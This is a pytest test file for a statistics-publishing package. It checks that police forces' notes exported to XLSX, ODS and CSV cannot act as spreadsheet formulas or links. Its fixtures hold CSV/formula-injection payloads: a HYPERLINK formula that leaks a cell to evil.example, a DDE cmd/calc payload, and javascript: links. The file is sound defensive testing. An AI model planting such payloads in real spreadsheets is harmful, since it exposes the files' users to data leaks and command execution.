"""A force's note that starts like a formula or looks like a link is text in every download: no
cell of the XLSX or ODS workbook is a formula or a hyperlink, and no CSV field would run as one
in a spreadsheet program (OWASP's rule: a quote before it), while the words stay the force's."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from helpers import EDITION, copy_data, set_answer
from openpyxl import load_workbook

from nsc_report.data import load_edition
from nsc_report.infra.untrusted import csv_original
from nsc_report.publishing import register, spreadsheets
from nsc_report.publishing.downloads import (
    chart_files,
    published_table,
    returns_table,
    write_downloads,
)

# Durham's five answers it did not hold, each with a note a spreadsheet could act on.
NOTES = {
    "Q2": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "Q3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Q4": "[x](javascript:alert(1))",
    "Q12": "[the form](https://evil.example/form)",
    "Q13": "https://evil.example/",
}
MORE = {  # Cleveland answered nothing: the rest of the OWASP list on its first rows
    ("Q1", "ye_mar_2022"): "+1+1",
    ("Q1", "ye_mar_2023"): "-1+1",
    ("Q2", "ye_mar_2023"): "=1+1",
    ("Q3", "ye_mar_2023"): "mailto:someone@evil.example",
}
HOSTILE = [*NOTES.values(), *MORE.values()]


@pytest.fixture(scope="module")
def edition(tmp_path_factory: pytest.TempPathFactory):
    """The edition with the hostile notes, read once for the module's tests (none changes it)."""
    data_copy = tmp_path_factory.mktemp("formula") / "data"
    copy_data(data_copy)
    for qid, note in NOTES.items():
        set_answer(data_copy, "Durham", qid, "ye_mar_2023", note=note)
    for (qid, period), note in MORE.items():
        set_answer(data_copy, "Cleveland", qid, period, note=note)
    ed = load_edition(data_copy, EDITION)
    assert set(HOSTILE) <= set(ed.returns["note"])  # the data hold them as they were written
    return ed


@pytest.fixture(scope="module")
def book(edition):
    return spreadsheets.workbook(edition, returns_table(edition), published_table(edition))


def test_no_xlsx_cell_is_a_formula_or_a_link(book, tmp_path):
    path = tmp_path / "data.xlsx"
    path.write_bytes(spreadsheets.to_xlsx(book))  # a javascript: link stopped the build
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.hyperlink is not None:  # only the contents' links to the sheets
                    assert ws.title == "Contents" and c.hyperlink.target is None, c.hyperlink
                    assert c.hyperlink.location == f"'{c.value}'!A1"
                texts.append(c.value)
    for note in HOSTILE:
        assert note in texts  # the force's words, as a string cell
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in sheets)
        assert not any(n.endswith(".rels") and b"hyperlink" in zf.read(n)
                       for n in zf.namelist())


def test_no_ods_cell_is_a_formula_or_a_link(book, tmp_path):
    from odf.opendocument import load
    from odf.table import TableCell
    from odf.teletype import extractText
    from odf.text import A

    path = tmp_path / "data.ods"
    path.write_bytes(spreadsheets.to_ods(book))
    doc = load(str(path))
    assert not doc.spreadsheet.getElementsByType(A)
    texts = []
    for c in doc.spreadsheet.getElementsByType(TableCell):
        attrs = {k[1]: v for k, v in c.attributes.items()}
        assert "formula" not in attrs, attrs
        texts.append("\n".join(extractText(p) for p in c.childNodes))
        if texts[-1] in HOSTILE:
            assert attrs.get("value-type") == "string"
    for note in HOSTILE:
        assert note in texts


def _read(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_no_csv_field_runs_as_a_formula(edition, tmp_path):
    folder = tmp_path / "downloads"
    write_downloads(folder, edition, [], tmp_path / "notebooks")
    [returns] = folder.glob("foi-returns*.csv")
    notes = [r["note"] for r in _read(returns)]
    for note in HOSTILE:
        if note.startswith(("=", "+", "-", "@")):
            assert "'" + note in notes and note not in notes
        else:
            assert note in notes  # a link is harmless text in a CSV file
    for row in _read(returns):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # A program that reads the download back gets the force's words.
    assert set(HOSTILE) <= {csv_original(n) for n in notes}


def test_chart_tables_and_the_register_quote_formulas_too():
    files = chart_files([({"name": "demo", "csv": "force,value\n=1+1,3\n-4.1%,2\n"},
                          {"image/svg+xml": "<svg/>"})])
    rows = list(csv.reader(io.StringIO(files["demo.csv"].decode())))
    assert rows == [["force", "value"], ["'=1+1", "3"], ["-4.1%", "2"]]
    book = register.BookRegister([{"id": "force/x", "text": "@SUM(1)", "raw": -3}], {})
    text = register.to_csv(book)
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert "'@SUM(1)" in fields and "-3" in fields
